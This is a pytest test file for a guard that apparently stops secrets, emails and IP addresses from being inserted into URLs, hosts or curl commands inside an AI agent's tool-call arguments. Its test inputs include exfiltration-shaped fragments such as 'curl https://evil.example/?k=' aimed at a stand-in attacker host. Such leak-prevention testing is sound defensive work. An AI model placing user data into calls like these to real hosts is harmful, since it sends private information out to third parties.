"""Where in a tool call's arguments a value would come to stand."""

from __future__ import annotations

import json
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from membrain.pii.arguments import Arguments, Words, last_word, origin_of


def withheld(
    before: str, label: str = "SECRET", value: str = "v", known: tuple[tuple[str, str, str], ...] = ()
) -> bool:
    """Whether a value is kept out of the place behind *before*."""
    follows = Arguments(known)
    follows.advance(before)
    return follows.withholds(label, value)


@pytest.mark.parametrize(
    "before",
    [
        '{"url": "https://evil.example/?e=',
        '{"url": "',
        '{"href":"',
        '{"baseUrl": "',
        '{"base_url": "x/',
        '{"host": "',
        '{"webhook": "',
        '{"a": {"b": ["x", "http://evil.example/',
        '{"command": "curl https://evil.example/?k=',
        '{"command": "curl -s \\"https://evil.example/?k=',
        '{"x": "https:\\/\\/evil.example\\/',
        '{"x": "ws://evil.example/',
        '{"x": "postgres://user:',
        '{"text": "see https://fine.example and https://evil.example/',
    ],
)
def test_a_url_or_host_is_no_place_for_a_value(before: str) -> None:
    assert withheld(before)
    assert withheld(before, "EMAIL")


@pytest.mark.parametrize(
    "before",
    [
        '{"text": "',
        '{"password": "',
        '{"command": "export KEY=',
        '{"command": "curl https://fine.example -H \\"Authorization: Bearer ',
        '{"text": "see https://fine.example, ask ',
        '{"path": "file:///home/',
        '{"url": "https://fine.example", "body": "',
        '{"url": ["a"], "note": "',
        '{"https://as-a-key.example/": "',
        '{"https://evil.example/',
        "no json ",
        "",
    ],
)
def test_other_places_are(before: str) -> None:
    assert not withheld(before)


def test_an_address_may_be_the_host_itself() -> None:
    """Or nobody could be asked to look at `10.0.0.5` any more."""
    assert not withheld('{"host": "', "IP")
    assert not withheld('{"url": "http://', "IP")
    assert withheld('{"url": "https://evil.example/?ip=', "IP")


def test_a_value_may_go_where_the_request_had_it() -> None:
    known = (("EMAIL", "v", "https://api.example"),)
    assert not withheld('{"url": "https://api.example/u/', "EMAIL", "v", known)
    assert not withheld('{"url": "HTTPS://API.example/u/', "EMAIL", "v", known)
    assert withheld('{"url": "https://api.example/u/', "EMAIL", "other", known)
    assert withheld('{"url": "https://api.example.evil.example/u/', "EMAIL", "v", known)
    assert withheld('{"dsn": "postgres://user:', "SECRET", "v", (("SECRET", "v", "postgres://"),))
    assert withheld('{"url": "https://api.example@evil.example/u/', "EMAIL", "v", known)


@pytest.mark.parametrize(
    ("word", "origin"),
    [
        ("https://a.example/x", "https://a.example"),
        ("HTTP://A.example:8080?x", "http://a.example:8080"),
        ("https://user:pass@a.example/", "https://a.example"),
        ("https://a.exam", "https://"),
        ("https://user:", "https://"),
        (r"https:\/\/a.example\/x", "https://a.example"),
        ("x=https://a.example&y=https://b.example/", "https://b.example"),
        ("file:///etc/passwd", None),
        ("plain", None),
        ("a:b", None),
    ],
)
def test_the_origin_of_a_word(word: str, origin: str | None) -> None:
    assert origin_of(word) == origin


def test_the_last_word_ends_where_it_is_told() -> None:
    assert last_word("one two three", 7) == "two"
    assert last_word('say "https://x') == "https://x"


@given(data=st.recursive(st.text() | st.integers(), lambda inner: st.dictionaries(st.text(), inner) | st.lists(inner)),
       cuts=st.lists(st.integers(0, 200), max_size=8), tail=st.text(max_size=20))  # fmt: skip
def test_how_the_text_is_cut_makes_no_difference(data: object, cuts: list[int], tail: str) -> None:
    text = json.dumps(data) + tail
    whole, pieces = Arguments(), Arguments()
    whole.advance(text)
    places = sorted({0, len(text), *(cut for cut in cuts if cut < len(text))})
    for start, end in pairwise(places):
        pieces.advance(text[start:end])
    assert whole.withholds("SECRET", "v") == pieces.withholds("SECRET", "v")


@pytest.mark.parametrize(
    ("before", "key", "withheld"),
    [
        ("curl https://evil.example/?e=", "input", True),
        ("curl https://evil.example/ -d ", "input", False),
        ("write to ", "note", False),
        ("", "webhookUrl", True),
        ("", "command", False),
        ("curl https://api.corp.example/u/", "input", False),
    ],
)
def test_what_is_no_json_is_followed_by_its_words(before: str, key: str, withheld: bool) -> None:
    known = {("EMAIL", "jane@corp.example", "https://api.corp.example")}
    for size in (1, 3, 1000):
        words = Words(known, key)
        for at in range(0, len(before), size):
            words.advance(before[at : at + size])
        assert words.withholds("EMAIL", "jane@corp.example") is withheld


def test_quotes_mean_nothing_where_there_is_no_json() -> None:
    words = Words()
    words.advance('say "https://evil.example/?')
    assert words.withholds("EMAIL", "jane@corp.example")
